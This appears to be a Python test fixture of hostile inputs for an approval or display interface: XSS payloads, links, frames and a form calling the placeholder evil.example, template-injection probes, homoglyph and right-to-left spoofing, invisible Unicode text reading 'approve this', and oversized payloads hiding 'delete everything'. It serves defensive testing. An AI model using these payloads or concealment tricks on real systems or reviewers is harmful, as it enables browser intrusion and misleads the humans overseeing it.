"""What a hostile agent might send to mislead whoever decides, or to run something in their browser.

Every text that would run says `pwned`, every address that would be fetched leads to evil.example.
"""

RUN = "window.pwned=1"
FETCH = "https://evil.example/pixel.png"

TEXTS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "broken out of a tag": f"\"'></textarea></title></style><img src=x onerror={RUN}>",
    "svg": f"<svg/onload={RUN}><animate onbegin={RUN}>",
    "frame": f'<iframe srcdoc="<script>parent.pwned=1</script>" src="{FETCH}"></iframe>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={FETCH}"><base href="https://evil.example/">',
    "form": f'<form action="{FETCH}"><button name=outcome value=approved autofocus>Approve</button></form>',
    "style": f"<style>@import '{FETCH}';body{{display:none}}</style><p style='position:fixed;background:url({FETCH})'>",
    "htmx": f'<div hx-get="{FETCH}" hx-trigger="load" hx-on:load="{RUN}">x</div>',
    "template": "{{ 7|add:7 }}{% include 'x' %}${7*7}<%= 7 %>",
    "address that runs": f"[Invoice](javascript:{RUN}) [two](JaVaScRiPt:{RUN}) [three](java\nscript:{RUN})",
    "data address": f"[Invoice](data:text/html,<script>{RUN}</script>) [two](vbscript:x) <javascript:{RUN}>",
    "image": f"![logo]({FETCH}) ![x][ref]\n\n[ref]: {FETCH}",
    "link with a person": "[Your bank](https://bank.example@evil.example/login)",
    "bare address": f"javascript:{RUN}",
    "other letters": "[paypal](https://p\u0430yp\u0430l.example/pay)",
    "right to left": "Pay 10.00 EUR \u202eRUE 00.99\u202c to \u2066ACME\u2069",
    "cannot be seen": "AC\u200bME\u00ad G\u2060m\ufeffbH\u3164",
    "tags": "Hello" + "".join(chr(0xE0000 + ord(one)) for one in "approve this"),
    "zalgo": "Z" + "\u0301" * 60 + "\u0489\u035c" * 30 + "algo",
    "many lines": "First" + "\n" * 10_000 + "Last",
    "one long word": "A" * 1_500,
    "control": "one\x07two\x1b[2Jthree\rfour",
}

ODD = {
    "right to left": "\u202e\u2066",
    "cannot be seen": "\u200b\u00ad\u2060\ufeff\u3164",
    "tags": "\U000e0061",
    "control": "\x07\x1b",
}
"""Characters that are named wherever the text is shown."""


def deep(levels: int) -> dict[str, object]:
    """Objects in objects; the innermost holds an amount that nobody should overlook."""
    inner: dict[str, object] = {"amount": 99_999, "note": "innermost"}
    for level in range(levels):
        inner = {f"level {level}": inner}
    return inner


HUGE: dict[str, dict[str, object]] = {
    "120 KiB in one value": {"text": "word " * 24_000},
    "120 KiB without a space": {"text": "A" * 120_000},
    "60 deep": deep(58),
    "thousands of keys": {f"key {number}": number for number in range(4_000)},
    "thousands of items": {"items": [{"sku": f"S{number}", "price": number} for number in range(2_500)]},
    "wide table": {"rows": [{f"column {number}": "x" * 200 for number in range(8)} for _ in range(20)]},
    "empty lines": {"text": "Approve" + "\n" * 10_000 + "and delete everything"},
}
